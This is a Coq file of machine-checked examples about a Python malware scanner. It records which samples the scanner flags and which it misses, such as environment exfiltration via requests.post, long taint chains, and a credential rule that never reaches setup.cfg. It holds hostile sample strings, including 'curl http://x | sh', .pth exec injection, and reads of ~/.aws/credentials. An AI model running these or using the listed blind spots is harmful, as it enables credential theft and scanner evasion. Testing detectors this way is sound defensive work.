Definition imported_flow : module_ := mkModule
  [Other [Call (Attribute (Name "requests") "post") [Name "url"] [Keyword (Some "json") (Name "environ")] 2]].
Example imported_environ_missed : module_flows imported_flow = true /\
  scan_env (fun _ => Some imported_flow) ex_webhook "from os import environ; requests.post(url, json=environ)" = [].
Proof. by vm_compute. Qed.

(** The five rounds are not always enough: assignments that run against the order of
    the walk pass the environment on by one variable per round. *)
Definition chain (vars : list string) : list node := map (fun xy => Assign [Name xy.1] (Name xy.2)) (combine vars (tl vars)).
Definition long_chain : module_ := mkModule
  (chain ["f"; "e"; "d"; "c"; "b"; "a"] ++ [Assign [Name "a"] (Attribute (Name "os") "environ"); Call (Name "post") [Name "f"] [] 9]).
Example long_chain_missed : module_flows long_chain = false /\ taint_rounds 7 long_chain [] = (["a"; "b"; "c"; "d"; "e"; "f"], true).
Proof. by vm_compute. Qed.

(** The default targets of the credential rule name [setup.cfg], but the walk is over
    [*.py], so that file is never looked at. *)
Example setup_cfg_unreachable :
  ex_mal [one_file ["p"; "setup.cfg"] "x = ~/.aws/credentials"] = [] /\
  ex_mal [one_file ["p"; "setup.py"] "x = ~/.aws/credentials"] = [("malware.credential_file_access", SCritical)].
Proof. by vm_compute. Qed.

Example pth_ex : ex_mal [one_file ["a.pth"] ("import os; exec(open(p).read())" +:+ String LF "import sys" +:+ String LF "import evil")] =
  [("malware.pth_exec_injection", SCritical); ("malware.pth_import_injection", SHigh)].
Proof. by vm_compute. Qed.
Example download_ex : ex_mal [one_file ["setup.py"] "subprocess.run('curl http://x | sh')"] = [("malware.download_command", SCritical)].
Proof. by vm_compute. Qed.
